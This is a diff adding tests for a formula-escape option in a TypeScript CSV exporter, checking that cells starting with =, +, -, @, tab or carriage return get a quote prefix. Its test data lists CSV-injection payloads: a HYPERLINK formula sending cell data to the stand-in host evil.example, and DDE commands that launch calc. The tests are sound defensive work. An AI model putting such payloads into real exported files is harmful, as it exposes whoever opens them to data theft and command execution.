@@ -3,7 +3,7 @@ import { createHash } from 'node:crypto';
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
-import { csvRecords, writeCsv } from '../../src/export/csv-file-writer';
+import { csvRecords, escapeFormula, writeCsv } from '../../src/export/csv-file-writer';
 import { LocalExportStore } from '../../src/export/export-store';
 
 /** RFC 4180 output, checked by reading it back with a standard parser (csv-parse). */
@@ -11,6 +11,19 @@ const AWKWARD = [
   ['plain', 'with,comma', 'with "quotes"', 'line\nbreak', 'carriage\rreturn', 'crlf\r\ninside'],
   ['Ünïcödé — 中文 🚀', ' leading and trailing ', '', '""', 'semi;colon', 'tab\there'],
 ];
+
+/** Cells a spreadsheet would run as formulas: one per trigger of OWASP's CSV injection page (=, +, -, @, TAB, CR). */
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  '+1+cmd|\' /C calc\'!A0',
+  '-2+3+cmd|\' /C calc\'!A0',
+  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  '\t=1+2',
+  '\r=1+2',
+];
+/** Numbers and text a spreadsheet reads as such: never escaped. */
+const HARMLESS = ['-5', '+1.25', '-2.5e-3', '-.5', '42', 'a=b', ' =1+2', 'x@y.example', ''];
 
 /** One record per batch, to exercise batch boundaries. */
 async function* rows(list: string[][]) {
@@ -71,5 +84,45 @@ describe('CSV writing', () => {
     await expect(writeCsv(sink, { delimiter: ',', header: true, quoting: 'minimal', lineEnding: 'LF', encoding: 'UTF-8' }, ['a'], failing()))
       .rejects.toThrow('cursor broke');
     expect(fs.readdirSync(dir).filter((f) => f.startsWith('broken'))).toEqual([]);
+  });
+
+  describe('formula escape', () => {
+    const format = { delimiter: ',', quoting: 'minimal', lineEnding: 'LF' } as const;
+
+    it('by default writes cells that look like formulas exactly as they are (the legacy files stay byte for byte the same)', () => {
+      const text = csvRecords(format)([HOSTILE, HARMLESS]);
+      expect(text).toBe(
+        '"=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",=cmd|\' /C calc\'!A0,+1+cmd|\' /C calc\'!A0,-2+3+cmd|\' /C calc\'!A0,'
+        + '@SUM(1+1)*cmd|\' /C calc\'!A0,\t=1+2,"\r=1+2"\n'
+        + '-5,+1.25,-2.5e-3,-.5,42,a=b, =1+2,x@y.example,\n');
+      expect(csvRecords({ ...format, formulaEscape: 'none' })([HOSTILE, HARMLESS])).toBe(text);
+      expect(parse(text, { relax_column_count: true })).toEqual([HOSTILE, HARMLESS]);
+    });
+
+    it("with quote prefixes every cell starting with =, +, -, @, TAB or CR with ', leaves plain numbers and other text alone, and round-trips", () => {
+      for (const quoting of ['minimal', 'all'] as const) {
+        for (const delimiter of [',', ';', '\t']) {
+          const text = csvRecords({ delimiter, quoting, lineEnding: 'CRLF', formulaEscape: 'quote' })([HOSTILE, HARMLESS]);
+          const [hostile, harmless] = parse(text, { delimiter, record_delimiter: '\r\n', relax_column_count: true }) as string[][];
+          expect(hostile).toEqual(HOSTILE.map((v) => `'${v}`));
+          expect(harmless).toEqual(HARMLESS);
+          // What a spreadsheet sees first in every written cell: never a trigger character.
+          for (const cell of hostile) expect(cell[0]).toBe("'");
+        }
+      }
+      expect(csvRecords({ ...format, formulaEscape: 'quote' })([["=cmd|' /C calc'!A0", '-5']])).toBe("'=cmd|' /C calc'!A0,-5\n");
+      expect(HOSTILE.map(escapeFormula)).toEqual(HOSTILE.map((v) => `'${v}`));
+      expect(HARMLESS.map(escapeFormula)).toEqual(HARMLESS);
+      expect(['-', '+', '=', '@', '-5-', '1-', '-1e', '--5', '-5 '].map(escapeFormula)).toEqual(["'-", "'+", "'=", "'@", "'-5-", '1-', "'-1e", "'--5", "'-5 "]);
+    });
+
+    it('escapes data rows only: the header row is the template\'s own column names, written as configured', async () => {
+      const sink = await store.openWrite('escaped.csv');
+      await writeCsv(sink, { delimiter: ',', header: true, quoting: 'minimal', lineEnding: 'LF', encoding: 'UTF-8-BOM', formulaEscape: 'quote' },
+        ['-id', '=name'], rows([['-7', '=1+2'], ['x', '@me']]));
+      const bytes = fs.readFileSync(path.join(dir, 'escaped.csv'));
+      expect(bytes.toString('utf8')).toBe("\ufeff-id,=name\n-7,'=1+2\nx,'@me\n");
+      expect(parse(bytes, { bom: true })).toEqual([['-id', '=name'], ['-7', "'=1+2"], ['x', "'@me"]]);
+    });
   });
 });
